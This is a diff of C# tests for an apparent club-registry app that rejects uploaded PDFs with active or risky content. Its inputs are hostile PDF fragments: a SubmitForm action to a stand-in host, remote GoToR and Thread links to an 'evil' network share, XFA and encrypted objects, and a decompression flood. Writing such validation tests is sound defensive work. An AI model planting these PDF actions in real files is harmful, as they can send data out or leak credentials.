@@ -93,6 +93,57 @@ public sealed class DocumentTests(RegistryApp app) : IClassFixture<RegistryApp>
         Assert.False(await db.Documents.AnyAsync(d => d.RegistrationId == secretary.RegistrationId, TestContext.Current.CancellationToken));
     }
 
+    [Theory]
+    [InlineData("<</S/SubmitForm/F(https://evil.example)>>", "programas")]
+    [InlineData("<</S/ImportData/F(a.fdf)>>", "programas")]
+    [InlineData(@"<</S/GoToR/F(\\\\evil\\share\\a.pdf)/D[0/Fit]>>", "programas")]
+    [InlineData(@"<</S /Thread/F(\\\\evil\\share\\a.pdf)>>", "programas")]
+    [InlineData("<</AcroForm<</XFA 9 0 R>>>>", "programas")]
+    [InlineData("<</Encrypt 9 0 R>>", "protegido")]
+    public async Task A_PDF_that_sends_fetches_or_is_locked_is_refused_in_words(string part, string word)
+    {
+        var secretary = await BeginAsync($"actua.{Guid.CreateVersion7():N}");
+        var plain = Encoding.ASCII.GetBytes($"%PDF-1.7\n1 0 obj\n{part}\nendobj\n%%EOF\n");
+        Assert.Contains(await ErrorsAsync(secretary, plain), e => e.Contains(word, StringComparison.Ordinal));
+        if (word == "programas")
+            Assert.Contains(await ErrorsAsync(secretary, Packed(part)), e => e.Contains(word, StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task A_PDF_with_links_bookmarks_articles_and_chance_letters_is_kept()
+    {
+        var secretary = await BeginAsync("enlaces");
+        var pdf = Packed("<</S/URI/URI(https://club.example)>><</S/GoTo/D[3 0 R/Fit]>><</Type/Thread/F 7 0 R>><</Launches 1/JSON 2>>stream \u00ff/JS\u00fe endstream");
+        Assert.Empty((await UploadAsync(secretary, "boletin.pdf", "application/pdf", pdf)).Errors);
+    }
+
+    [Fact]
+    public async Task A_PDF_of_a_hundred_thousand_streams_is_refused_at_once()
+    {
+        var secretary = await BeginAsync("rafaga");
+        byte[] one = [.. "/ObjStm/Filter/FlateDecode stream\n"u8, .. Deflated("a"u8.ToArray())];
+        byte[] pdf = [.. "%PDF-1.7\n"u8, .. Enumerable.Repeat(one, 100_000).SelectMany(bytes => bytes), .. "\n%%EOF"u8];
+        var started = TimeProvider.System.GetTimestamp();
+        Assert.Contains(await ErrorsAsync(secretary, pdf), e => e.StartsWith("No pudimos leer", StringComparison.Ordinal));
+        Assert.True(TimeProvider.System.GetElapsedTime(started) < TimeSpan.FromSeconds(20));
+    }
+
+    [Fact]
+    public async Task Beyond_ten_documents_a_file_is_refused_before_it_is_looked_into_and_the_tenth_sent_again_is_the_tenth()
+    {
+        var secretary = await BeginAsync("once");
+        var page = await secretary.OpenAsync("documents");
+        for (var number = 0; number < 10; number++)
+            Assert.Empty((await SendAsync(Numbered(number))).Errors);
+        Assert.StartsWith("Ya hay 10", Assert.Single((await SendAsync("<html>"u8.ToArray())).Errors), StringComparison.Ordinal);
+        Assert.Empty((await SendAsync(Numbered(9))).Errors);
+
+        // The page was opened while there was room.
+        Task<VisitedPage> SendAsync(byte[] bytes) => secretary.Visitor.UploadAsync(page, "Form.File", "acta.pdf", "application/pdf", bytes, [("Form.Kind", "founding_minutes")], "#add-document");
+
+        static byte[] Numbered(int number) => Encoding.ASCII.GetBytes($"%PDF-1.4\n% {number}\n%%EOF\n");
+    }
+
     [Fact]
     public async Task A_PDF_whose_objects_are_packed_is_kept_as_it_came()
     {
